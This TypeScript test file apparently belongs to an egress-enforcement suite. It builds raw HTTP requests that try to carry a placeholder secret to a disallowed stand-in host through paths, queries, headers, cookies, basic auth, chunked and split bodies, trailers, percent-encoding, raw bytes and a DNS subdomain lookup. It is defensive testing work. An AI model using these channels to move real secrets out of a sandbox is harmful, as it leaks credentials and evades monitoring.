/**
 * What stands for a secret, sent to a name that the secret is not for. It must not arrive, whatever part
 * carries it.
 */
import { blocked, type EnforcementCase, open, skipped } from '../enforcement-case.ts';
import { exchange } from './http.ts';

const NAME = 'web.report.example';
const base64 = (text: string) => Buffer.from(text).toString('base64');

const leak = (
  id: string,
  title: string,
  bytes: (placeholder: string, host: string) => readonly string[],
  arrives = (placeholder: string) => placeholder,
): EnforcementCase => ({
  id: `secret.${id}`,
  title: `what stands for a secret, ${title}`,
  async run(world) {
    if (!world.carries) return skipped('this server carries nothing out');
    const before = world.target.saw(arrives(world.placeholder));
    if (before) return skipped('an earlier case has sent it already');
    const said = await exchange(world, NAME, bytes(world.placeholder, `${NAME}:${world.target.port}`));
    const shown = said.split('\r\n')[0]!.slice(0, 80);
    return world.target.saw(arrives(world.placeholder))
      ? open(`the target got it (${shown})`)
      : blocked(shown);
  },
});
const post = (host: string, headers: string, body: string) =>
  `POST /one HTTP/1.1\r\nHost: ${host}\r\n${headers}\r\n${body}`;

export const SECRETS: readonly EnforcementCase[] = [
  leak('path', 'in a path', (secret, host) => [`GET /${secret} HTTP/1.1\r\nHost: ${host}\r\n\r\n`]),
  leak('query', 'in a query', (secret, host) => [`GET /?a=${secret} HTTP/1.1\r\nHost: ${host}\r\n\r\n`]),
  leak('header', 'in a header', (secret, host) => [
    `GET / HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${secret}\r\n\r\n`,
  ]),
  leak(
    'header-name',
    'as the name of a header',
    (secret, host) => [`GET / HTTP/1.1\r\nHost: ${host}\r\n${secret}: x\r\n\r\n`],
    (secret) => secret.toLowerCase(),
  ),
  leak('cookie', 'in a cookie', (secret, host) => [
    `GET / HTTP/1.1\r\nHost: ${host}\r\nCookie: a=b; c=${secret}\r\n\r\n`,
  ]),
  leak(
    'basic',
    'in basic credentials',
    (secret, host) => [
      `GET / HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Basic ${base64(`user:${secret}`)}\r\n\r\n`,
    ],
    (secret) => base64(`user:${secret}`),
  ),
  leak('body', 'in a body', (secret, host) => [post(host, `Content-Length: ${secret.length}\r\n`, secret)]),
  leak('chunk', 'in a chunk of a body', (secret, host) => [
    post(host, 'Transfer-Encoding: chunked\r\n', `${secret.length.toString(16)}\r\n${secret}\r\n0\r\n\r\n`),
  ]),
  leak('later-request', 'in a later request', (secret, host) => [
    `GET /one HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
    `GET /two?${secret} HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
  ]),
  leak('percent', 'percent-encoded in a path', (secret, host) => {
    const hidden = Buffer.from(secret).toString('hex').replaceAll(/../g, '%$&');
    return [`GET /${hidden} HTTP/1.1\r\nHost: ${host}\r\n\r\n`];
  }),
  leak('absolute-form', 'in the user of an absolute form', (secret, host) => [
    `GET http://${secret}@${host}/ HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
  ]),
  leak('method', 'as the method', (secret, host) => [`${secret} / HTTP/1.1\r\nHost: ${host}\r\n\r\n`]),
  leak('trailer', 'in a trailer', (secret, host) => [
    post(host, 'Transfer-Encoding: chunked\r\nTrailer: X-One\r\n', `1\r\na\r\n0\r\nX-One: ${secret}\r\n\r\n`),
  ]),
  leak('split-body', 'in a body, in two pieces', (secret, host) => [
    post(host, `Content-Length: ${secret.length}\r\n`, secret.slice(0, 20)),
    secret.slice(20),
  ]),
  leak('split-raw', 'in bytes that are no request, in two pieces', (secret) => [
    `RAW ${secret.slice(0, 20)}`,
    `${secret.slice(20)}\n`,
  ]),
  {
    id: 'secret.name',
    title: 'what stands for a secret, as a name below a star',
    async run(world) {
      if (!world.network) return skipped('this server carries nothing out');
      const name = `${world.placeholder}.wild.report.example`;
      const end = await world.probe.relay(name, world.target.port);
      if (typeof end !== 'string') {
        end.write('RAW\n');
        await new Promise((resolve) => setTimeout(resolve, 500));
        end.destroy();
      }
      return world.network.resolved().some((one) => one.includes(world.placeholder))
        ? open('the name was looked up outside')
        : blocked(typeof end === 'string' ? end : 'no query left');
    },
  },
  leak('raw', 'in bytes that are no request', (secret) => [`RAW ${secret}\n`]),
  leak('raw-later', 'later in bytes that are no request', (secret) => ['RAW first\n', `${secret}\n`]),
];
